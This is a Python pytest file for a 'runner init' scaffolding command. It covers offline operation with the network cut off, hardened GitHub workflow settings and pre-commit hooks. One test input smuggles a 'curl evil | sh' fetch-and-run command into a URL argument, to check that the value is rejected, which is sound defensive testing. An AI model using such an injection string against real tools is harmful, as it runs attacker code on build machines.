"""`runner init`: what it writes works as it stands, with no network; and the hooks that others can use."""

from __future__ import annotations

import os
import re
import shlex
import subprocess
import sys
from importlib.metadata import entry_points
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from runner.source import read

if TYPE_CHECKING:
    from tests.conftest import CommandLine

REPOSITORY = Path(__file__).parent.parent.parent
CASSETTE = "cassettes/order-placed/the-platform-takes-an-order.yaml"
SPEC = "specs/order-placed.yaml"
WORKFLOW = ".github/workflows/notifications.yml"
WRITTEN = ["runner.yaml", SPEC, "pytest.ini", ".gitattributes", WORKFLOW, CASSETTE]
FILL_IN = f"the workflow can't install runner yet: in {WORKFLOW}, replace URL@COMMIT with its source\n"
SOURCE = "https://github.com/example/suprsend-runner@0123456789abcdef0123456789abcdef01234567"
CUT_OFF = """
import sys

def refuse(event, args):
    if event == "socket.connect" and args[1][0] != "127.0.0.1" or event == "socket.getaddrinfo" and args[0] != "127.0.0.1":
        raise RuntimeError(f"the network is cut off: {event} {args[1:]}")

sys.addaudithook(refuse)
"""


@pytest.fixture
def cut_off(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Give the environment of a process that reaches this machine alone, and knows no credentials."""
    folder = tmp_path_factory.mktemp("cut-off")
    (folder / "sitecustomize.py").write_text(CUT_OFF)
    kept = {name: os.environ[name] for name in ("PATH", "HOME", "LANG") if name in os.environ}
    modules = (folder, REPOSITORY, REPOSITORY / "runner" / "pytest_plugin" / "entry")
    return kept | {"PYTHONPATH": os.pathsep.join(map(str, modules)), "PYTHONDONTWRITEBYTECODE": "1"}


def run(command: str, environ: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """Type a command. `runner` and `pytest` are those of this Python."""
    name, *args = shlex.split(command)
    plugin = [] if any(each.value == PLUGIN[1] for each in entry_points(group="pytest11")) else PLUGIN
    words = [sys.executable, "-m", name, *(plugin if name == "pytest" else []), *args]
    return subprocess.run(words, env=environ, capture_output=True, text=True, timeout=60, check=False)


PLUGIN = ["-p", "pytest_suprsend_runner"]


def files() -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in Path().rglob("*") if path.is_file()}


def workflow(path: str = WORKFLOW) -> Any:
    document = read(Path(path), path)
    assert document.problems == ()
    assert document.root is not None
    return document.root.plain()


def test_it_tells_what_it_wrote_and_what_to_do_next(in_tmp: Path, cli: CommandLine) -> None:
    ended = cli("init")
    assert ended.code == 0
    assert ended.out == "".join(f"written  {path}\n" for path in WRITTEN)
    assert ended.err == (
        f"{FILL_IN}next:\n"
        "  runner validate specs/\n      finds every problem of every spec\n"
        "  runner test specs/\n      replays the cases from their cassettes, with no network\n"
        f"  runner send {SPEC} --var user=u1 --sandbox\n      sends the event to a server on this machine\n"
    )
    assert sorted(files()) == sorted(WRITTEN)
    assert in_tmp.is_dir()


@pytest.mark.usefixtures("in_tmp")
def test_the_commands_that_it_names_succeed_with_the_network_cut_off(cut_off: dict[str, str]) -> None:
    begun = run("runner init -o json", cut_off)
    assert begun.returncode == 0, begun.stderr
    named = re.findall(r'"(runner [^"]*)"', begun.stdout)
    assert named == ["runner validate specs/", "runner test specs/", f"runner send {SPEC} --var user=u1 --sandbox"]
    for command in [
        *named,
        "pytest",
        "runner cassette list",
        "runner cassette check",
        "runner cassette verify --sandbox",
    ]:
        ended = run(command, cut_off)
        assert ended.returncode == 0, f"{command}: {ended.stdout}{ended.stderr}"
        if command == "pytest":
            assert "2 passed" in ended.stdout


@pytest.mark.usefixtures("in_tmp")
def test_the_network_of_these_tests_is_cut_off(cut_off: dict[str, str]) -> None:
    code = "import socket; socket.create_connection(('192.0.2.1', 80), 1)"
    ended = subprocess.run([sys.executable, "-c", code], env=cut_off, capture_output=True, text=True, check=False)
    assert "RuntimeError: the network is cut off: " in ended.stderr


@pytest.mark.usefixtures("in_tmp")
def test_what_is_there_stays_as_it_is(cli: CommandLine) -> None:
    Path("specs").mkdir()
    Path(SPEC).write_text("version: 1\nevent: my_own\ndistinct_id: u1\n")
    Path("runner.yaml").symlink_to("elsewhere.yaml")
    ended = cli("init")
    told = {path: "kept   " if path in ("runner.yaml", SPEC) else "written" for path in WRITTEN if path != CASSETTE}
    assert (ended.code, ended.out) == (0, "".join(f"{state}  {path}\n" for path, state in told.items()))
    assert Path(SPEC).read_text() == "version: 1\nevent: my_own\ndistinct_id: u1\n"
    assert not Path("elsewhere.yaml").exists()
    before = files()
    assert cli("init").out == "".join(f"kept     {path}\n" for path in WRITTEN if path != CASSETTE)
    assert files() == before


@pytest.mark.usefixtures("in_tmp")
def test_what_was_deleted_is_written_again(cli: CommandLine) -> None:
    cli("init")
    before = files()
    Path(CASSETTE).unlink()
    assert cli("init").out == "".join(f"kept     {path}\n" for path in WRITTEN[:-1]) + f"written  {CASSETTE}\n"
    assert files() == before


@pytest.mark.usefixtures("in_tmp")
def test_a_new_folder_is_made(cli: CommandLine) -> None:
    ended = cli("init", "my shop/events")
    assert ended.code == 0
    assert sorted(files()) == sorted(f"my shop/events/{path}" for path in WRITTEN)
    assert "\nnext, after `cd 'my shop/events'`:\n" in ended.err


@pytest.mark.usefixtures("in_tmp")
def test_within_a_repository_its_root_has_the_workflow_and_the_cassettes(cli: CommandLine) -> None:
    Path(".git").mkdir()
    assert cli("init", "events").out == "".join(
        f"written  {path}\n"
        for path in (
            "events/runner.yaml",
            f"events/{SPEC}",
            "events/pytest.ini",
            ".gitattributes",
            WORKFLOW,
            "cassettes/events/specs/order-placed/the-platform-takes-an-order.yaml",
        )
    )
    assert workflow()["defaults"] == {"run": {"working-directory": "events"}}
    assert cli("cassette", "list", "-o", "json").json["cassettes"][0]["spec"] == f"events/{SPEC}"


@pytest.mark.usefixtures("in_tmp")
def test_each_project_of_a_repository_has_a_workflow_that_runs_it(cli: CommandLine) -> None:
    Path(".git").mkdir()
    for folder in ("app", "a", "teams/b c"):
        assert cli("init", folder).code == 0
    names = {"notifications.yml": "app", "notifications-a.yml": "a", "notifications-teams-b-c.yml": "teams/b c"}
    assert {path.name for path in Path(WORKFLOW).parent.iterdir()} == set(names)
    for name, folder in names.items():
        found = workflow(f".github/workflows/{name}")
        assert found["defaults"] == {"run": {"working-directory": folder}}
        assert found["jobs"]["replay"]["steps"][-1]["with"]["path"] == f"{folder}/junit.xml"
    before = files()
    assert "written" not in cli("init", "a").out
    assert files() == before


@pytest.mark.usefixtures("in_tmp")
def test_a_workflow_that_runs_no_specs_is_told(cli: CommandLine) -> None:
    Path(WORKFLOW).parent.mkdir(parents=True)
    Path(WORKFLOW).write_text("name: my own\n")
    told = f"{WORKFLOW} exists and does not run `runner test`: no workflow runs these specs\n"
    assert cli("init").err.startswith(told)


@pytest.mark.usefixtures("in_tmp")
def test_init_again_does_not_add_the_first_spec_to_others(cli: CommandLine) -> None:
    cli("init")
    Path(SPEC).rename("specs/my-own.yaml")
    Path(CASSETTE).unlink()
    before = files()
    assert SPEC not in cli("init").out
    assert files() == before


@pytest.mark.usefixtures("in_tmp")
def test_attributes_of_git_that_are_there_are_kept_and_told(cli: CommandLine) -> None:
    Path(".gitattributes").write_text("* text=auto\n")
    told = "to keep the ends of lines in recordings, add to .gitattributes: cassettes/** text eol=lf\n"
    assert told in cli("init").err
    assert Path(".gitattributes").read_text() == "* text=auto\n"


@pytest.mark.parametrize(
    "source",
    [
        "https://github.com/example/suprsend-runner",
        "https://github.com/example/suprsend-runner@main",
        "https://github.com/example/suprsend-runner@v1.0.0",
        "https://user:password@example.com/suprsend-runner@0123456789abcdef0123456789abcdef01234567",
        'https://example.com/"; curl evil | sh #@0123456789abcdef0123456789abcdef01234567',
        "http://example.com/suprsend-runner@0123456789abcdef0123456789abcdef01234567",
        "suprsend-runner",
    ],
)
@pytest.mark.usefixtures("in_tmp")
def test_a_workflow_installs_from_a_commit_alone(cli: CommandLine, source: str) -> None:
    ended = cli("init", "--from", source)
    assert (ended.code, files()) == (64, {})
    assert "is not URL@COMMIT, an https address without credentials and a whole commit" in ended.err


@pytest.mark.usefixtures("in_tmp")
def test_a_file_is_no_folder(cli: CommandLine) -> None:
    Path("notes").write_text("mine")
    for folder, code in (("notes", 64), ("notes/below", 74)):
        ended = cli("init", folder)
        assert (ended.code, ended.out) == (code, "")
    assert files() == {"notes": b"mine"}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("pyproject.toml", "[tool.pytest.ini_options]\n"),
        ("pyproject.toml", "[tool.pytest]\n"),
        ("pytest.toml", "[pytest]\n"),
        ("setup.cfg", "[tool:pytest]\n"),
        ("tox.ini", "[pytest]\n"),
        ("pytest.ini", "[pytest]\n"),
    ],
)
@pytest.mark.usefixtures("in_tmp")
def test_settings_of_pytest_stay_in_force(cli: CommandLine, name: str, text: str) -> None:
    Path(name).write_text(text)
    ended = cli("init")
    assert ended.err.startswith(
        f"to have a plain `pytest` run the cases, add runner_specs = specs to pytest's section of {name}\n"
    )
    assert Path(name).read_text() == text
    assert Path("pytest.ini").exists() == (name == "pytest.ini")


@pytest.mark.usefixtures("in_tmp")
def test_other_settings_are_none_of_pytest(cli: CommandLine) -> None:
    Path("pyproject.toml").write_text('[project]\nname = "pytest-shop"\n')
    assert "written  pytest.ini\n" in cli("init").out


@pytest.mark.usefixtures("in_tmp")
def test_the_workflow_is_yaml_whose_commands_exist(cli: CommandLine, cut_off: dict[str, str]) -> None:
    cli("init", "--from", SOURCE)
    found = workflow()
    assert list(found) == ["name", "on", "permissions", "jobs"]
    assert list(found["on"]) == ["push", "pull_request", "workflow_dispatch", "schedule"]
    steps = [step for job in found["jobs"].values() for step in job["steps"]]
    commands = [step["run"] for step in steps if "run" in step and step.get("id") != "secrets"]
    install = f'pip install "git+{SOURCE}"'
    assert commands == [
        install,
        "runner validate specs/ -o github",
        "runner cassette check -o github",
        "runner test specs/ --junit-xml junit.xml",
        install,
        "runner test --live specs -m smoke --profile staging --junit-xml smoke.xml",
        "runner doctor --profile staging",
        install,
        "runner cassette verify --profile staging -o github",
    ]
    for command in commands[1:4]:
        ended = run(command, cut_off)
        assert ended.returncode == 0, f"{command}: {ended.stdout}{ended.stderr}"
    # The names of the secrets are those of the profile: all that is missing here is their values.
    for step in [step for step in steps if step.get("run") in commands and "env" in step]:
        secrets = step["env"]
        assert secrets == {name: f"${{{{ secrets.{name} }}}}" for name in secrets}
        command = step["run"].replace("runner doctor", "runner doctor --offline")
        ended = run(command, cut_off)
        assert ended.returncode == 3, command
        assert all(name in ended.stdout + ended.stderr for name in secrets)


@pytest.mark.usefixtures("in_tmp")
def test_the_workflow_gives_a_pull_request_neither_secrets_nor_rights(cli: CommandLine) -> None:
    cli("init")
    found = workflow()
    assert "pull_request_target" not in Path(WORKFLOW).read_text()
    assert found["permissions"] == {"contents": "read"}
    for job in found["jobs"].values():
        assert [step["with"] for step in job["steps"] if step.get("uses", "").startswith("actions/checkout@")] == [
            {"persist-credentials": False}
        ]
        assert "permissions" not in job
        if "secrets." in str(job):
            events = [each.removeprefix("github.event_name == ").strip("'") for each in job["if"].split(" || ")]
            assert set(events) <= {"push", "schedule", "workflow_dispatch"}


def hooks() -> dict[str, Any]:
    document = read(REPOSITORY / ".pre-commit-hooks.yaml", ".pre-commit-hooks.yaml")
    assert document.root is not None
    found: Any = document.root.plain()
    return {hook["id"]: hook for hook in found}


def test_the_hooks_are_of_the_form_that_pre_commit_knows() -> None:
    known = ["id", "name", "description", "entry", "args", "language", "files", "pass_filenames"]
    assert {name: list(hook) for name, hook in hooks().items()} == {
        "runner-fmt": [key for key in known if key not in ("args", "pass_filenames")],
        "runner-validate": known,
        "runner-cassette-check": [key for key in known if key != "args"],
    }
    assert all(hook["language"] == "python" for hook in hooks().values())


@pytest.mark.parametrize(
    ("hook", "fault", "code"),
    [
        ("runner-validate", (SPEC, "event: order_placed", "evnt: order_placed"), 2),
        ("runner-validate", ("specs/_base.yaml", "version: 1", "labels: smoke"), 2),
        ("runner-validate", ("specs/order.json", "{}", "{"), 2),
        ("runner-validate", ("runner.yaml", "env_allowed: [PDF_TOKEN]", "env_allowed: []"), 2),
        ("runner-cassette-check", (SPEC, "name: the platform takes", "name: it takes"), 6),
        ("runner-cassette-check", (CASSETTE, "interactions:", "interaction:"), 6),
    ],
)
@pytest.mark.usefixtures("in_tmp")
def test_a_hook_looks_at_all_that_a_commit_concerns(
    cli: CommandLine, cut_off: dict[str, str], hook: str, fault: tuple[str, str, str], code: int
) -> None:
    cli("init")
    Path("specs/_base.yaml").write_text("version: 1\n")
    Path("specs/order.json").write_text("{}")
    Path("runner.yaml").write_text(Path("runner.yaml").read_text().replace("# env_allowed", "env_allowed"))
    child = "version: 1\nextends: _base.yaml\nevent: paid\ndistinct_id: '{{ who }}'\nschema: order.json\n"
    child += "vars: {who: {type: string, env: PDF_TOKEN, secret: false}}\n"
    Path("specs/child.yaml").write_text(child)
    path, old, new = fault
    for folder in ("", "shop/"):
        assert re.search(hooks()[hook]["files"], folder + path)
    assert not re.search(hooks()[hook]["files"], "docs/guide.yaml")
    command = shlex.join([*shlex.split(hooks()[hook]["entry"]), *hooks()[hook].get("args", [])])
    ended = run(command, cut_off)
    assert ended.returncode == 0, ended.stdout
    assert old in Path(path).read_text()
    Path(path).write_text(Path(path).read_text().replace(old, new))
    assert run(command, cut_off).returncode == code
